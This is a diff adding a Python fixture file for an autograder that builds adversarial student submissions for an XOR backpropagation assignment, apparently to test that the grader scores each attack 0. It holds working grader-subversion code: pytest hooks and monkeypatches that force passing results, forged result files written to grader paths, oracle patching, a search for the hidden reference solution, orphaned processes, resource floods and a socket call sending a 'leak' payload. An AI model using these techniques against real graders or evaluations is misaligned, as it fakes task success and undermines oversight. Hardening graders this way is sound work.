@@ -1,0 +1,230 @@
+"""Adversarial submissions for a1_xor_backprop: each is the released stub (every function raises
+NotImplementedError, so an honest grade is 0) plus an attack on the grader. Every one must score 0
+and leave the batch complete.
+
+``build(folder, context)`` writes the catalogue as a folder of submissions; ``context`` carries what
+a well-informed attacker would know (the gradebook path, a listening port, a marker for its
+processes).
+"""
+
+from __future__ import annotations
+
+import textwrap
+import zipfile
+from pathlib import Path
+
+from ailit_core import assignments
+from ailit_core.release.files import release_files
+
+ASSIGNMENT = "a1_xor_backprop"
+MODULE = "xor_net.py"
+
+
+def stub_source() -> str:
+    return release_files(assignments.get(ASSIGNMENT))[MODULE].decode("utf-8")
+
+
+# A forced pass, the way cheats against pytest-based graders usually do it.
+FORCE_PASS_HOOK = """
+import pytest
+
+@pytest.hookimpl(hookwrapper=True)
+def pytest_runtest_makereport(item, call):
+    outcome = yield
+    report = outcome.get_result()
+    report.outcome = "passed"
+    report.longrepr = None
+"""
+
+# Finds a working xor_net.py anywhere it can look (sys.path, the grader's folders, the disk) and
+# delegates to it. Run outside the sandbox it finds the reference (the test checks that), so a 0
+# inside means the reference was unreachable.
+FIND_REFERENCE = r'''
+import os, sys, time, importlib.util
+
+def _good(path):
+    try:
+        text = open(path, encoding="utf-8", errors="replace").read()
+    except OSError:
+        return False
+    return "def compute_gradients" in text and "NotImplementedError" not in text
+
+SKIP = ("/proc", "/sys", "/dev", "/usr", "/lib", "/bin", "/sbin", "/etc", "/var/lib", "/boot")
+
+def find_reference(budget=2.5, depth=7):
+    started = time.monotonic()
+    roots = [p for p in sys.path if p] + ["/work", "/root", "/home", "/srv", "/opt", "/tmp", "/mnt", os.getcwd(), "/"]
+    try:
+        import ailit_core.paths as paths
+        roots[:0] = [str(paths.solutions_dir()), str(paths.examples_dir()), str(paths.project_root())]
+    except Exception:
+        pass
+    seen = set()
+    for root in roots:
+        for dirpath, dirnames, filenames in os.walk(root):
+            if time.monotonic() - started > budget:
+                return None
+            real = os.path.realpath(dirpath)
+            if real in seen or real.startswith(SKIP) or real.count("/") > depth:
+                dirnames[:] = []
+                continue
+            seen.add(real)
+            dirnames[:] = [d for d in dirnames if d not in ("site-packages", "dist-packages", "__pycache__", ".git")]
+            if "xor_net.py" in filenames and _good(os.path.join(dirpath, "xor_net.py")):
+                return os.path.join(dirpath, "xor_net.py")
+    return None
+'''
+
+DELEGATE = r'''
+_found = find_reference()
+if _found:
+    _spec = importlib.util.spec_from_file_location("_reference_xor_net", _found)
+    _ref = importlib.util.module_from_spec(_spec)
+    _spec.loader.exec_module(_ref)
+    sigmoid = _ref.sigmoid
+    sigmoid_derivative = _ref.sigmoid_derivative
+    NeuralNetwork = _ref.NeuralNetwork
+'''
+
+
+def attacks(context: dict) -> dict[str, dict[str, str]]:
+    """student -> files (relative path -> text). The module is the stub with attack code added."""
+    out = context["out"]
+    port = context["port"]
+    marker = context["marker"]
+    stub = stub_source()
+
+    def module(prefix: str = "", suffix: str = "") -> str:
+        # The attack runs at import, right after the stub's `from __future__` line (which must stay first).
+        head, sep, rest = stub.partition("from __future__ import annotations\n")
+        if not sep:
+            head, rest = "", stub
+        return head + sep + textwrap.dedent(prefix) + "\n" + rest + "\n" + textwrap.dedent(suffix)
+
+    forged = {"score": 100, "tests": [], "extra_data": {"ailit": {"student": "x", "status": "graded"}}}
+    return {
+        "conftest_injection": {MODULE: stub, "conftest.py": FORCE_PASS_HOOK},
+        "pytest_ini": {MODULE: stub, "pytest.ini": "[pytest]\naddopts = -p no:ailit_core.grade.plugin -k nothing\n"},
+        "sitecustomize": {MODULE: stub, "sitecustomize.py": "import builtins\nbuiltins.__import__ = None\n",
+                          "numpy.py": "raise SystemExit(0)\n"},
+        "exit_at_import": {MODULE: module("import os\nos._exit(0)\n")},
+        "system_exit_at_import": {MODULE: module("raise SystemExit(0)\n")},
+        "kill_self_at_import": {MODULE: module("import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n")},
+        "segfault_at_import": {MODULE: module("import ctypes\nctypes.string_at(0)\n")},
+        "infinite_loop_at_import": {MODULE: module("while True:\n    pass\n")},
+        "sleep_at_import": {MODULE: module("import time\ntime.sleep(10 ** 6)\n")},
+        "stubborn_loop": {MODULE: module(suffix="""
+            import time
+            def sigmoid(x):
+                while True:  # swallows the grader's timeout exception
+                    try:
+                        time.sleep(0.05)
+                    except BaseException:
+                        pass
+            """)},
+        "memory_hog": {MODULE: module("""
+            hoard = []
+            while True:
+                hoard.append(bytearray(50 * 1024 * 1024))
+            """)},
+        "output_flood": {MODULE: module("""
+            import sys
+            line = "flood " * 2000 + "\\n"
+            while True:
+                sys.stdout.write(line)
+            """)},
+        "orphans": {MODULE: module(f"""
+            import os, subprocess, sys, time
+            # a detached grandchild (double fork + new session) and a plain child, both long-lived
+            if os.fork() == 0:
+                os.setsid()
+                if os.fork() == 0:
+                    os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", "{marker}-double"])
+                os._exit(0)
+            subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", "{marker}-popen"],
+                             start_new_session=True)
+            time.sleep(0.5)
+            """)},
+        "forged_results": {MODULE: module(f"""
+            import json, os
+            forged = {forged!r}
+            targets = ["results.json", "../results.json", "../../results.json", "/tmp/results.json",
+                       "/autograder/results/results.json", {str(out)!r} + "/grades.csv",
+                       {str(out)!r} + "/forged_results/results.json", {str(out)!r} + "/victim/results.json",
+                       {str(out)!r} + "/FORGED.txt"]
+            for target in targets:
+                try:
+                    os.makedirs(os.path.dirname(os.path.abspath(target)), exist_ok=True)
+                    with open(target, "w") as fh:
+                        json.dump(forged, fh)
+                except OSError:
+                    pass
+            # and straight into every open descriptor, in case one is the results channel
+            line = json.dumps({{"t": "report", "nodeid": "x", "when": "call", "outcome": "passed"}}).encode() + b"\\n"
+            for fd in range(3, 1024):
+                try:
+                    os.write(fd, line)
+                except OSError:
+                    pass
+            """)},
+        "patch_pytest_reports": {MODULE: module("""
+            import _pytest.reports, _pytest.runner
+            _original = _pytest.reports.TestReport.from_item_and_call.__func__
+            def _always_pass(cls, item, call):
+                report = _original(cls, item, call)
+                report.outcome = "passed"
+                report.longrepr = None
+                return report
+            _pytest.reports.TestReport.from_item_and_call = classmethod(_always_pass)
+            """)},
+        "register_pass_plugin": {MODULE: module("""
+            import gc, pytest
+            class _Pass:
+                @pytest.hookimpl(hookwrapper=True)
+                def pytest_runtest_makereport(self, item, call):
+                    outcome = yield
+                    report = outcome.get_result()
+                    report.outcome = "passed"
+                    report.longrepr = None
+            for obj in gc.get_objects():
+                if type(obj).__name__ == "Config" and hasattr(obj, "pluginmanager"):
+                    obj.pluginmanager.register(_Pass(), "ailit-pass")
+            """)},
+        "patch_oracles": {MODULE: module("""
+            import sys
+            import numpy as np
+            np.allclose = lambda *a, **k: True
+            np.array_equal = lambda *a, **k: True
+            for name, mod in list(sys.modules.items()):
+                if name.startswith("test_hidden"):
+                    mod.oracle_sigmoid = lambda x: x
+            """)},
+        "find_reference": {MODULE: module(FIND_REFERENCE, suffix=DELEGATE)},
+        "network": {MODULE: module(f"""
+            import socket
+            for host in ("127.0.0.1", "localhost", "10.0.0.1", "1.1.1.1"):
+                try:
+                    with socket.create_connection((host, {port}), timeout=1) as s:
+                        s.sendall(b"leak")
+                except OSError:
+                    pass
+            """)},
+    }
+
+
+def write(folder: Path, context: dict) -> list[str]:
+    """The catalogue as submissions in ``folder`` (one as a zip); returns the students."""
+    folder.mkdir(parents=True, exist_ok=True)
+    students = []
+    for student, files in attacks(context).items():
+        if student == "conftest_injection":  # also exercise the zip path
+            with zipfile.ZipFile(folder / f"{student}.zip", "w") as archive:
+                for rel, text in files.items():
+                    archive.writestr(f"{student}/{rel}", text)
+        else:
+            for rel, text in files.items():
+                path = folder / student / rel
+                path.parent.mkdir(parents=True, exist_ok=True)
+                path.write_text(text, encoding="utf-8")
+        students.append(student)
+    return students
